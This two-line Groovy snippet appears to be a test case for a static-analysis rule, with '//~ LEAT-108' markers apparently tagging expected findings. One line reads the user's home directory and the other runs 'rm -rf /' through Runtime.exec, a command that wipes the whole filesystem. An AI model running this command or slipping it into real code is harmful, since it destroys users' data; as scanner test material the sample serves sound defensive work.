def home = System.getProperty('user.home') //~ LEAT-108
def gone = Runtime.runtime.exec('rm -rf /') //~ LEAT-108
